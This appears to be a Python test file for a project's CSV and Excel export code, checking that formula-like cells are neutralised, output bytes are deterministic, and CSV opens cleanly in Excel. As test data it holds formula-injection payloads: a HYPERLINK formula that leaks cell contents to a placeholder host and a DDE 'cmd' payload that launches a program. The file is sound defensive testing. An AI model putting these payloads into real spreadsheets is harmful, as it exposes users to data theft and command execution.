"""The document writers: a cell a spreadsheet would run as a formula is written as text and read back as it
was; the same table gives the same bytes; CSV opens in Excel (BOM, CRLF)."""

from __future__ import annotations

import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from yangfan.documents.cells import RISKY, defused, restored
from yangfan.documents.formats import content_type
from yangfan.documents.tables import csv_bytes, csv_chunks
from yangfan.documents.xlsx import sheet_title, table_bytes, workbook_bytes

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")'


@given(st.text())
def test_what_defused_writes_restored_reads_back(text):
    assert restored(defused(text)) == text


@given(st.text())
def test_a_defused_cell_starts_with_no_formula_unless_it_is_a_number(text):
    cell = defused(text)
    if cell.startswith(RISKY):
        assert float(cell) == float(text)


def test_formulas_are_quoted_and_numbers_are_not():
    assert defused(ATTACK) == "'" + ATTACK
    assert defused("+86 029 1234") == "'+86 029 1234"
    assert defused("@SUM(A1)") == "'@SUM(A1)"
    assert defused("-") == "'-"
    assert [defused(n) for n in ("-5", "+3.2", "-1e3", "12")] == ["-5", "+3.2", "-1e3", "12"]
    assert restored("'不是公式") == "'不是公式"  # a quote the export did not add stays


def test_csv_has_a_bom_crlf_lines_and_no_live_formula():
    content = csv_bytes(["名称", "数量", "日期"], [[ATTACK, -3, None], ["西安", 12, "2023-12-31"]])
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.split("\r\n")[0] == "名称,数量,日期"
    assert text.split("\r\n")[1].startswith("\"'=HYPERLINK(")
    assert text.split("\r\n")[1].endswith(",-3,")
    assert b"".join(csv_chunks(["a"], [["b"]], bom=False)) == b"a\r\nb\r\n"


def test_a_workbook_holds_no_formula_and_its_bytes_do_not_depend_on_the_clock():
    first = table_bytes("登记簿/案例", ["名称", "说明"], [["案例一", ATTACK], ["案例二", "=1+1"]])
    assert first == table_bytes("登记簿/案例", ["名称", "说明"], [["案例一", ATTACK], ["案例二", "=1+1"]])
    sheet = load_workbook(io.BytesIO(first)).active
    assert sheet.title == "登记簿 案例"
    assert [c.data_type for c in sheet["B"]] == ["s", "s", "s"]
    assert sheet["B2"].value == ATTACK and sheet["B3"].value == "=1+1"  # text, exactly as stored


def test_any_workbook_written_is_defused_whoever_built_it():
    book = Workbook()
    book.active["A1"] = "=cmd|' /C calc'!A0"
    book.create_sheet("二")["C3"] = "=SUM(A1:A2)"
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    assert loaded.worksheets[0]["A1"].data_type == "s"
    assert loaded.worksheets[1]["C3"].data_type == "s"


def test_sheet_titles_and_content_types():
    assert sheet_title("a" * 40) == "a" * 31
    assert sheet_title("[]") == "Sheet"
    assert content_type("报告.DOCX").endswith("wordprocessingml.document")
    assert content_type("x.csv") == "text/csv; charset=utf-8"
    assert content_type("x.exe") == "application/octet-stream"
